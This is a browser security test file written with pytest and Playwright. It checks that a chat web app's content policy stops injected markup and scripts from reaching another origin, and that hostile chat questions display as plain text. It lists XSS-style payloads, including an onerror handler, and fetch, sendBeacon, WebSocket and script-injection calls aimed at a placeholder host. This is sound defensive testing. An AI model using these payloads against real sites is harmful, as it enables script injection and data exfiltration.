"""A real browser against hostile text, and against whatever would get past the escaping."""

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from .browsing import ask, opened
from .payloads import PAYLOADS

pytestmark = pytest.mark.browser

# Each would fetch from, send to, or run something of another origin.
BREACHES = {
    "image": "<img src='FAR/image'>",
    "set of images": "<img srcset='FAR/set 1x'>",
    "background": "<div style='background-image:url(FAR/background)'>x</div>",
    "style sheet": "<link rel=stylesheet href='FAR/style'>",
    "font": "<style>@font-face{font-family:f;src:url(FAR/font)} p{font-family:f}</style><p>x</p>",
    "import": "<style>@import 'FAR/import';</style>",
    "frame": "<iframe src='FAR/frame'></iframe>",
    "object": "<object data='FAR/object'></object>",
    "embed": "<embed src='FAR/embed'>",
    "video": "<video src='FAR/video' poster='FAR/poster' autoplay></video>",
    "sound": "<audio src='FAR/sound' autoplay></audio>",
    "drawing": "<svg><image href='FAR/drawing'/><use href='FAR/use#x'/></svg>",
    "input": "<input type=image src='FAR/input'>",
    "preload": "<link rel=preload as=image href='FAR/preload'>",
    "handler": "<img src=x onerror=\"document.title='taken'\">",
}
CALLS = {
    "fetch": "fetch('FAR/fetch', {mode: 'no-cors'}).catch(() => {})",
    "beacon": "navigator.sendBeacon('FAR/beacon', 'x')",
    "socket": "void new WebSocket('FAR/socket'.replace('http', 'ws'))",
    "events": "void new EventSource('FAR/events')",
    "script": (
        "document.head.append(Object.assign(document.createElement('script'), {src: 'FAR/script'}))"
    ),
    "worker": "try { new Worker('FAR/worker') } catch { 0 }",
    "form": (
        "document.body.insertAdjacentHTML('beforeend', "
        "'<form method=post action=FAR/form></form>');"
        "document.forms[document.forms.length - 1].submit()"
    ),
}


@pytest.fixture
def far() -> Iterator[tuple[str, list[str]]]:
    """Another origin on this machine, and the paths that it was asked for."""
    asked: list[str] = []

    class Noted(BaseHTTPRequestHandler):
        timeout = 1  # a browser opens connections ahead, and may never ask anything of them

        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Noted) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


def test_the_policy_stops_whatever_would_reach_another_origin(
    page: Page, far: tuple[str, list[str]]
) -> None:
    address, asked = far
    for markup in BREACHES.values():
        page.evaluate(
            "html => document.body.insertAdjacentHTML('beforeend', html)",
            markup.replace("FAR", address),
        )
    page.wait_for_timeout(500)
    assert page.title() == "askretail"  # no handler ran
    for call in CALLS.values():
        page.evaluate(call.replace("FAR", address))
    page.wait_for_timeout(1000)  # for what is slow to be asked
    assert asked == []


def test_the_other_origin_would_have_noted_a_request(
    context_of: Callable[..., BrowserContext], far: tuple[str, list[str]]
) -> None:
    address, asked = far
    page = context_of().new_page()
    page.goto(f"{address}/seen")
    assert "/seen" in asked


def test_questions_of_every_hostile_kind_are_shown_as_text(
    context_of: Callable[..., BrowserContext], address: str
) -> None:
    page = opened(context_of(), address)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for turn, text in enumerate(PAYLOADS.values(), start=1):
        ask(page, text, turn)
    asked = page.locator('#ar-chat [data-testid="user"]')
    assert [words.split() for words in asked.all_inner_texts()] == [
        text.split() for text in PAYLOADS.values()
    ]
    inside = ":is(script, img, form, iframe, style, svg, input, object, base, meta, article)"
    expect(page.locator(f'#ar-chat [data-testid="user"] {inside}')).to_have_count(0)
    expect(page.locator('#ar-chat a:not([href^="#"])')).to_have_count(0)
    expect(page.locator("#turn-1 .ar-lead")).to_be_visible()
    assert (page.title(), dialogs) == ("askretail", [])
